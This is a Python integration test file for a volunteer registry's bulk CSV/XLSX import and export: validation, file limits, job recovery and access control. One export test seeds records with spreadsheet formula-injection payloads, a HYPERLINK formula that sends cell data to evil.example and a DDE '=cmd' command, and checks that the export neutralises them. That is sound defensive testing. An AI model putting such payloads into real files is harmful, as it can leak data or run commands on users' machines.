"""Bulk import of volunteers (CSV, XLSX) and their export, on a real database."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from typing import Any

import openpyxl
import pytest
from sqlalchemy import text

from services.registry import handlers, imports, registrations
from services.registry.adapters.orm import ImportJob
from services.registry.api import create_app
from tests.support import infra
from tests.support.infra import wait_until
from tests.support.registry import start_registry, volunteer_payload

pytestmark = pytest.mark.integration

IMPORTS = "/api/v1/volunteers/imports"
EXPORT = "/api/v1/volunteers/export"


def flat(n: int, **overrides: Any) -> dict[str, Any]:
    """A valid row of an import file, in the import's flat columns."""
    row = {
        "first_name": "Ama",
        "last_name": f"Mensah{n}",
        "date_of_birth": "1995-04-02",
        "gender": "female",
        "nationality": "TG",
        "identity_number": f"TG-{n:06d}",
        "email": f"ama{n}@example.org",
        "phone": "+228 90 00 00 00",
        "preferred_language": "fr",
        "languages": "fr:native;ee:B2",
        "skills": "public health;first aid",
        "domains": "health",
        "education_level": "master",
        "available_from": "2017-09-01",
        "available_until": "2018-08-31",
        "preferred_countries": "ML;NE",
        "consent_given_at": "2017-06-01T10:00:00Z",
        "consent_purposes": "registration;matching",
        "notes": "",
    }
    row.update(overrides)
    return row


def csv_bytes(
    rows: list[dict[str, Any] | None], columns: tuple[str, ...] = imports.COLUMNS
) -> bytes:
    """None is a blank line."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(columns)
    for row in rows:
        writer.writerow([] if row is None else [row.get(c, "") for c in columns])
    return out.getvalue().encode("utf-8")


def upload(node, content: bytes, filename: str = "volunteers.csv", who: str | None = "staff"):
    return node.call(
        "POST",
        IMPORTS,
        who=who,
        data={"file": (io.BytesIO(content), filename)},
        content_type="multipart/form-data",
    )


def finished(node, response) -> dict[str, Any]:
    assert response.status_code == 202, response.json
    location = response.headers["Location"]
    assert location == f"{IMPORTS}/{response.json['id']}"
    job: dict[str, Any] = {}

    def done() -> bool:
        r = node.call("GET", location)
        assert r.status_code == 200, r.json
        job.update(r.json)
        return job["status"] in ("completed", "failed")

    wait_until(done, timeout=60, interval=0.05, what="the import job to finish")
    return job


def by_line(job: dict[str, Any]) -> dict[int, set[str]]:
    out: dict[int, set[str]] = {}
    for error in job["errors"]:
        assert set(error) == {"line", "field", "message"} and error["message"]
        out.setdefault(error["line"], set()).add(error["field"])
    return out


def job_count(node) -> int:
    with node.engine.connect() as conn:
        return conn.execute(text("SELECT count(*) FROM import_job")).scalar_one()


def test_csv_import_stores_good_rows_with_their_events_and_reports_each_bad_row(tg, monkeypatch):
    monkeypatch.setattr(imports, "CHUNK_SIZE", 3)  # several chunks, duplicates across them
    registered = tg.call("POST", "/api/v1/volunteers", json=volunteer_payload(900))
    assert registered.status_code == 201
    rows = [
        flat(1),  # line 2
        flat(2, date_of_birth="1995-02-30"),  # 3: no such date
        flat(3),  # 4
        flat(4, languages="fr:native;qq:B2"),  # 5: unknown language
        flat(5, nationality="QQ"),  # 6: unknown country
        flat(6, available_from="2018-01-01", available_until="2017-01-01"),  # 7: end < start
        flat(7, identity_number="TG-000001"),  # 8: same identity as line 2
        flat(8, identity_number="TG-000900"),  # 9: already registered
        None,  # 10: blank, skipped
        flat(10, email="a" * 250 + "@example.org"),  # 11: refused by the database
        flat(11, date_of_birth="02/04/1995", gender="F"),  # 12: French habits, fine
        flat(12, first_name=""),  # 13: required value missing
    ]
    response = upload(tg, csv_bytes(rows))
    assert response.json["status"] == "queued" and response.json["total_rows"] == 11
    job = finished(tg, response)

    assert job["status"] == "completed", job
    assert job["progress"] == 100
    assert (job["total_rows"], job["processed_rows"]) == (11, 11)
    assert (job["imported_rows"], job["error_rows"]) == (3, 8)
    assert by_line(job) == {
        3: {"date_of_birth"},
        5: {"languages.1.code"},
        6: {"nationality"},
        7: {"available_until"},
        8: {"identity_number"},
        9: {"identity_number"},
        11: {"row"},
        13: {"first_name"},
    }
    messages = {e["line"]: e["message"] for e in job["errors"]}
    assert "line 2" in messages[8] and "already registered" in messages[9]
    assert tg.volunteer_count() == 4
    assert tg.outbox_count("volunteer.registered") == 4
    with tg.engine.connect() as conn:
        names = set(conn.execute(text("SELECT last_name FROM volunteer")).scalars())
        mensah11 = conn.execute(
            text("SELECT date_of_birth, gender FROM volunteer WHERE last_name = 'Mensah11'")
        ).one()
    assert names == {"Mensah900", "Mensah1", "Mensah3", "Mensah11"}
    assert mensah11 == (date(1995, 4, 2), "female")


def test_xlsx_import_with_french_headers(tg):
    french = {
        "first_name": "Prénom",
        "last_name": "Nom",
        "date_of_birth": "Date naissance",
        "gender": "Sexe",
        "nationality": "Nationalité",
        "identity_number": "Numéro identité",
        "email": "Courriel",
        "phone": "Téléphone",
        "languages": "Langues",
        "skills": "Compétences",
        "domains": "Domaines",
        "education_level": "Niveau études",
        "available_from": "Disponible du",
        "available_until": "Disponible au",
        "preferred_countries": "Pays préférés",
        "consent_given_at": "Consentement le",
        "consent_purposes": "Consentement finalités",
    }
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append([*french.values(), "Observations du conseiller"])

    def row(n: int, **overrides: Any) -> list[Any]:
        values = flat(n, **overrides)
        return [values[c] for c in french] + ["RAS"]

    # Typed cells, as spreadsheets keep them: dates, datetimes, numbers.
    sheet.append(
        row(
            1,
            nationality="ML",
            identity_number=223000111,
            date_of_birth=datetime(1996, 3, 4),
            available_from=date(2017, 9, 1),
            consent_given_at=datetime(2017, 6, 1, 9, 30),
            phone="+223 70 00 00 00",
        )
    )  # line 2
    sheet.append(row(2, date_of_birth="not a date"))  # line 3
    sheet.append([])  # line 4: blank
    sheet.append(row(4, languages="bm:native;fr:C3"))  # line 5: no such level
    sheet.append(row(5, consent_purposes="registration;spam"))  # line 6
    # Line 6 was refused, so line 7 is the first to claim TG-000005 and line 8 its duplicate.
    sheet.append(row(6, identity_number="TG-000005"))  # line 7
    sheet.append(row(7, identity_number="TG-000005"))  # line 8
    content = io.BytesIO()
    workbook.save(content)

    job = finished(tg, upload(tg, content.getvalue(), "Volontaires Lomé.xlsx"))

    assert job["status"] == "completed" and job["format"] == "xlsx", job
    assert job["filename"] == "Volontaires Lomé.xlsx"
    assert (job["total_rows"], job["imported_rows"], job["error_rows"]) == (6, 2, 4)
    assert by_line(job) == {
        3: {"date_of_birth"},
        5: {"languages.1.level"},
        6: {"consent_purposes.1"},
        8: {"identity_number"},
    }
    assert "Observations du conseiller" in job["message"]  # said to be ignored
    assert tg.volunteer_count() == 2 and tg.outbox_count("volunteer.registered") == 2
    with tg.engine.connect() as conn:
        stored = conn.execute(
            text(
                "SELECT identity_number, date_of_birth, consent_given_at, available_from "
                "FROM volunteer WHERE nationality = 'ML'"
            )
        ).one()
    assert stored[0] == "223000111" and stored[1] == date(1996, 3, 4)
    assert stored[2].isoformat() == "2017-06-01T09:30:00+00:00"
    assert stored[3] == date(2017, 9, 1)


@pytest.mark.parametrize(
    ("content", "filename", "status", "words"),
    [
        (b"x" * (imports.MAX_FILE_BYTES + 1), "big.csv", 413, "10 MiB"),
        (b"x" * (imports.MAX_FILE_BYTES + 2 * 1024 * 1024), "bigger.csv", 413, ""),
        (b"%PDF-1.4 some document", "volunteers.pdf", 415, ".xlsx"),
        (b"first_name,last_name\nAma,Mensah\n", "volunteers.xlsx", 415, "XLSX"),
        (b"\x00\x01\x02binary", "volunteers.csv", 415, "binary"),
        (
            b"first_name,last_name,gender,nationality\nAma,Mensah,female,TG\n",
            "volunteers.csv",
            422,
            "date_of_birth, identity_number, consent_given_at, consent_purposes",
        ),
        (csv_bytes([]), "header-only.csv", 422, "no data rows"),
        (
            csv_bytes([flat(n) for n in range(imports.MAX_ROWS + 1)]),
            "too-many.csv",
            422,
            "20,000",
        ),
    ],
    ids=[
        "over-10MiB",
        "over-body-limit",
        "pdf",
        "csv-named-xlsx",
        "binary",
        "columns",
        "empty",
        "rows",
    ],
)
def test_refused_files_store_nothing(tg, content, filename, status, words):
    r = upload(tg, content, filename)
    assert r.status_code == status, r.json
    assert r.is_json and r.json["code"] == status
    assert words in r.json.get("message", "")
    assert job_count(tg) == 0 and tg.volunteer_count() == 0 and tg.outbox_count() == 0


def test_an_xlsx_of_too_many_rows_fails_its_job_at_once_storing_nothing(tg):
    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet()
    sheet.append(list(imports.REQUIRED))
    for n in range(imports.MAX_ROWS + 1):
        sheet.append(
            ["Ama", "Mensah", "1995-04-02", "female", "TG", f"TG-{n}", "2017-06-01", "registration"]
        )
    content = io.BytesIO()
    workbook.save(content)
    response = upload(tg, content.getvalue(), "big.xlsx")
    assert response.json["total_rows"] == 0  # counted by the job
    job = finished(tg, response)
    assert job["status"] == "failed" and job["processed_rows"] == 0
    assert "more than 20,000 data rows" in job["message"]
    assert "Nothing was imported" in job["message"]
    assert tg.volunteer_count() == 0 and tg.outbox_count() == 0


def test_missing_columns_are_each_named(tg):
    r = upload(tg, b"prenom;nom;sexe\nAma;Mensah;F\n")
    assert r.status_code == 422
    details = r.json["errors"]["files"]["file"]
    assert "Missing required column date_of_birth (or date_naissance)." in details
    assert not any("first_name" in d or "last_name" in d for d in details)


def test_a_semicolon_separated_windows_1252_csv_from_french_excel_imports(tg):
    content = (
        "Prénom;Nom;Date de naissance;Sexe;Nationalité;Numéro d'identité;Langues;"
        "Consentement le;Consentement finalités\r\n"
        'Aïssata;Traoré;15/08/1994;F;ml;ML-1234;"bm:native;fr:C1";01/06/2017;registration\r\n'
    ).encode("cp1252")
    job = finished(tg, upload(tg, content))
    assert job["status"] == "completed" and job["imported_rows"] == 1, job
    with tg.engine.connect() as conn:
        row = conn.execute(text("SELECT first_name, last_name, languages FROM volunteer")).one()
    assert row[0] == "Aïssata" and row[1] == "Traoré"
    assert row[2] == [{"code": "bm", "level": "native"}, {"code": "fr", "level": "C1"}]


def test_a_job_that_dies_is_failed_with_its_reason_and_keeps_committed_chunks(tg, monkeypatch):
    monkeypatch.setattr(imports, "CHUNK_SIZE", 2)
    real, calls = registrations.register_volunteers, []

    def flaky(session, node, items):
        calls.append(len(items))
        if len(calls) == 3:  # the chunk of the fifth and sixth rows
            raise RuntimeError("disk on fire")
        return real(session, node, items)

    monkeypatch.setattr(registrations, "register_volunteers", flaky)
    job = finished(tg, upload(tg, csv_bytes([flat(n) for n in range(1, 8)])))
    assert job["status"] == "failed"
    assert "RuntimeError: disk on fire" in job["message"] and "kept" in job["message"]
    assert job["finished_at"] is not None
    # Two chunks of two committed; the third, where the fifth row failed, rolled back whole.
    assert (job["processed_rows"], job["imported_rows"]) == (4, 4)
    assert tg.volunteer_count() == 4 and tg.outbox_count("volunteer.registered") == 4


def _running_job(node, job_id: str) -> None:
    with node.runtime.sessions.begin() as session:
        session.add(
            ImportJob(
                id=job_id,
                filename="f.csv",
                format="csv",
                status="running",
                total_rows=10,
                processed_rows=4,
                imported_rows=4,
                error_rows=0,
                errors=[],
                created_by="tok",
                created_at=handlers.now(),
            )
        )


def test_a_job_left_running_by_a_crashed_process_is_failed_at_start(tg):
    _running_job(tg, "imp-crashed")
    _running_job(tg, "imp-alive-elsewhere")
    # Another process (another gunicorn worker) is running this one: it holds its lock.
    owner = tg.engine.connect()
    owner.execute(
        text("SELECT pg_advisory_lock(:c, :k)"),
        {"c": imports._LOCK_CLASS, "k": imports._lock_key("imp-alive-elsewhere")},
    )
    owner.commit()
    try:
        create_app(runtime=tg.runtime)  # a process starting on the same database
        crashed = tg.call("GET", f"{IMPORTS}/imp-crashed").json
        alive = tg.call("GET", f"{IMPORTS}/imp-alive-elsewhere").json
    finally:
        owner.invalidate()
        owner.close()
    assert crashed["status"] == "failed"
    assert crashed["message"] == "interrupted by a restart; rows imported so far are kept"
    assert crashed["imported_rows"] == 4 and crashed["finished_at"] is not None
    assert alive["status"] == "running"


@pytest.fixture
def fresh_node():
    """Registry nodes of TG on databases of their own, made on demand."""
    made = []

    def make():
        url = infra.create_database()
        made.append((url, start_registry("TG", url)))
        return made[-1][1]

    yield make
    for url, node in made:
        node.runtime.shutdown()
        infra.drop_database(url)


def _comparable(node) -> list[dict[str, Any]]:
    volunteers = node.call("GET", "/api/v1/volunteers?page_size=100").json
    own = ("id", "created_at", "updated_at")
    return sorted(
        ({k: v for k, v in volunteer.items() if k not in own} for volunteer in volunteers),
        key=lambda v: v["identity_number"],
    )


def test_export_neutralises_formulas_and_re_imports_into_a_fresh_node(tg, fresh_node):
    payloads = [
        volunteer_payload(1, last_name='=HYPERLINK("http://evil.example/?x="&A1,"open")'),
        volunteer_payload(2, notes="+1 call back", first_name="@Ama"),
        volunteer_payload(3, notes="-2 days\tlate", skills=["=cmd|' /C calc'!A0"]),
        volunteer_payload(4, first_name="'=already quoted", available_from=None),
    ]
    for payload in payloads:
        assert tg.call("POST", "/api/v1/volunteers", json=payload).status_code == 201

    r = tg.call("GET", f"{EXPORT}?format=csv")
    assert r.status_code == 200 and r.mimetype == "text/csv"
    assert r.headers["Content-Disposition"].startswith('attachment; filename="volunteers-TG-')
    assert r.is_streamed
    body = r.get_data()
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    assert list(rows[0]) == list(imports.COLUMNS) and len(rows) == 4
    by_id = {row["identity_number"]: row for row in rows}
    assert by_id["TG-000001"]["last_name"].startswith("'=HYPERLINK(")
    assert by_id["TG-000002"]["notes"] == "'+1 call back"
    assert by_id["TG-000002"]["first_name"] == "'@Ama"
    assert by_id["TG-000003"]["notes"] == "'-2 days\tlate"
    assert by_id["TG-000003"]["skills"] == "'=cmd|' /C calc'!A0"
    assert by_id["TG-000004"]["first_name"] == "''=already quoted"
    assert by_id["TG-000001"]["phone"] == "'+228 90 00 00 00"
    assert by_id["TG-000001"]["languages"] == "fr:native;ee:native"

    x = tg.call("GET", f"{EXPORT}?format=xlsx")
    assert x.status_code == 200 and x.mimetype == imports.XLSX_TYPE
    assert "volunteers-TG-" in x.headers["Content-Disposition"]
    sheet = openpyxl.load_workbook(io.BytesIO(x.get_data())).worksheets[0]
    cells = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert cells[0] == list(imports.COLUMNS) and len(cells) == 5
    last_names = [row[imports.COLUMNS.index("last_name")] for row in cells[1:]]
    assert """'=HYPERLINK("http://evil.example/?x="&A1,"open")""" in last_names
    # No cell is a formula: each holds the text or the date written.
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert sheet.cell(2, imports.COLUMNS.index("date_of_birth") + 1).value == datetime(1995, 4, 2)

    assert tg.call("GET", f"{EXPORT}?format=pdf").status_code == 422

    # What comes out goes back in, as it was, in either format.
    for content, name in ((body, "export.csv"), (x.get_data(), "export.xlsx")):
        copy = fresh_node()
        job = finished(copy, upload(copy, content, name))
        assert job["status"] == "completed" and job["errors"] == [], job
        assert job["imported_rows"] == 4 and job["message"].startswith("Imported 4 of 4 rows")
        assert _comparable(copy) == _comparable(tg)


def test_only_staff_of_this_agency_may_import_or_export(tg):
    content = csv_bytes([flat(1)])
    routes = [
        lambda who: upload(tg, content, who=who),
        lambda who: tg.call("GET", f"{IMPORTS}/imp-x", who=who),
        lambda who: tg.call("GET", f"{EXPORT}?format=csv", who=who),
        lambda who: tg.call("GET", f"{EXPORT}?format=xlsx", who=who),
    ]
    for route in routes:
        assert route(None).status_code == 401
        assert route("partner").status_code == 403
        assert route("node").status_code == 403
        assert route("staff@ML").status_code == 403
    assert job_count(tg) == 0
    assert tg.call("GET", f"{IMPORTS}/imp-x").status_code == 404


def test_openapi_documents_the_upload_as_multipart(tg):
    spec = tg.client().get("/api/v1/openapi.json").json
    post = spec["paths"]["/api/v1/volunteers/imports"]["post"]
    body = post["requestBody"]["content"]["multipart/form-data"]["schema"]
    assert "202" in post["responses"]
    schema = (
        body if "properties" in body else spec["components"]["schemas"][body["$ref"].split("/")[-1]]
    )
    assert schema["properties"]["file"]["format"] == "binary"
    assert "/api/v1/volunteers/export" in spec["paths"]
